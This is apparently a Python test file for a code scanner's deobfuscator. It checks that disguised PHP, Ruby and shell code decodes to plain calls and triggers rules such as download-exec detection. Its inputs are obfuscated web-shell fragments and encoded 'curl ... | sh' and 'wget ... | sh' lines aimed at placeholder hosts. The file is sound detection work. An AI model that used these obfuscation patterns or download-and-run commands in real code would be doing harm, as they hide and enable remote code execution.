"""Disguise folding for PHP, Ruby and shell: what each fold turns into, and that line counts never change."""
from __future__ import annotations

import base64
import zlib

import pytest

from codescan.analyze import deobfuscate, languages


def folded(language: str, code: str) -> str | None:
    source = code.encode()
    tree = languages.parser(language).parse(source)
    out = deobfuscate.fold(source, tree, language)
    if out is not None:
        assert out.count(b"\n") == source.count(b"\n")
    return None if out is None else out.decode()


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


PHP_CASES = [
    ("$f = 'sys'.'tem'; $f($_GET['c']);", "system($_GET['c']);"),
    (f"eval(base64_decode('{b64('system($_GET[1]);')}'));", "system($_GET[1]);"),
    ("$g = str_rot13('flfgrz');\n$g($x);", "system($x);"),
    ("call_user_func('pass'.'thru', $cmd);", "passthru($cmd);"),
    ("$a = chr(101).chr(118).'al';", "$a = 'eval';"),
    ("assert(strrev(';)x$(metsys'));", "system($x);"),
]


@pytest.mark.parametrize("code, expected", PHP_CASES)
def test_php_folds(code, expected):
    out = folded("php", "<?php\n" + code + "\n")
    assert out is not None and expected in out


def test_php_gzinflate_of_base64():
    packed = base64.b64encode(zlib.compress(b"shell_exec('id');")[2:-4]).decode()
    out = folded("php", f"<?php\neval(gzinflate(base64_decode('{packed}')));\n")
    assert out is not None and "shell_exec('id')" in out


def test_php_leaves_dynamic_code_alone():
    assert folded("php", "<?php\n$f = $_GET['f'];\n$f($x);\necho $a . $b;\n") is None


RUBY_CASES = [
    ('Kernel.send("sys" + "tem", "id")', 'Kernel.send("system", "id")'),
    ('obj.public_send("metsys".reverse, c)', 'obj.public_send("system", c)'),
    ('Object.const_get("Ker" + "nel").exec(c)', "Kernel.exec(c)"),
    (f'eval(Base64.decode64("{b64("system(cmd)")}"))', "system(cmd)"),
    ("m = %w[e v a l].join", 'm = "eval"'),
    ('x = [105, 100].pack("c*")', 'x = "id"'),
]


@pytest.mark.parametrize("code, expected", RUBY_CASES)
def test_ruby_folds(code, expected):
    out = folded("ruby", code + "\n")
    assert out is not None and expected in out


def test_ruby_interpolation_is_not_constant():
    assert folded("ruby", 'x = "a" + "#{b}"\n') is None


SHELL_CASES = [
    ('c="ev""al"\n$c "$payload"', 'eval "$payload"'),
    (f'eval "$(echo {b64("curl http://x.example/a | sh")} | base64 -d)"', "curl http://x.example/a | sh"),
    (f"echo {b64('wget -qO- http://x | sh')} | base64 --decode | bash", "wget -qO- http://x | sh"),
    ("bash -c \"$(printf '\\x63\\x75\\x72\\x6c x | sh')\"", "curl x | sh"),
    ("echo 'hs | x lruc' | rev | sh", "curl x | sh"),
]


@pytest.mark.parametrize("code, expected", SHELL_CASES)
def test_shell_folds(code, expected):
    out = folded("shell", code + "\n")
    assert out is not None and expected in out


def test_shell_multiline_payload_kept_on_one_line():
    payload = b64("cd /tmp\nwget http://x/a\nsh a\n")
    out = folded("shell", f'x=1\neval "$(echo {payload} | base64 -d)"\ny=2\n')
    assert out is not None and out.splitlines()[1] == "cd /tmp; wget http://x/a; sh a"


def test_shell_variable_folds_to_its_value_where_it_is_used():
    """Values come from the semantic layer's shell adapter: the binding before the use, not "assigned once"."""
    assert folded("shell", 'c=eval\nc=echo\n$c "$x"\n').splitlines()[2] == 'echo "$x"'
    assert folded("shell", 'c=ev\nc="${c}al"\n$c "$x"\n').splitlines()[2] == 'eval "$x"'


def test_shell_variable_of_unknown_value_is_not_folded():
    assert folded("shell", 'c=$(cat /etc/cmd)\n$c "$x"\n') is None


def test_php_and_ruby_values_follow_reassignment():
    assert "system($x)" in folded("php", "<?php\n$f = 'sys';\n$f .= 'tem';\n$f($x);\n")
    assert folded("ruby", "c = 'sys'\nc += 'tem(x)'\neval(c)\n").splitlines()[2] == "system(x)"


def test_folded_payload_reaches_the_rules():
    from codescan.analyze.document import Analyzer
    from codescan.config import Config
    from codescan.records import Document
    from codescan.rules import load_rules

    analyzer = Analyzer(load_rules().select(("sh-download-exec", "rb-send-dangerous-method",
                                             "command-from-request-input"), ()),
                        Config(honour_suppressions=False))
    shell = f'eval "$(echo {b64("curl -s http://x.example/i | sh")} | base64 -d)"\n'.encode()
    ruby = b'm = "sys" + "tem"\nKernel.send("sys" + "tem", x)\n'
    php = b"<?php\n$f = 'sys'.'tem';\n$f($_GET['c']);\n"
    found = {(f.rule_id, f.line, f.context) for doc in (Document("a.sh", shell), Document("a.rb", ruby),
                                                        Document("a.php", php))
             for f in analyzer.analyze(doc).findings}
    assert ("sh-download-exec", 1, "folded") in found
    assert ("rb-send-dangerous-method", 2, "folded") in found
    # the fact rule names the function the variable holds (the same value the folded view writes)
    assert ("command-from-request-input", 3, "code") in found
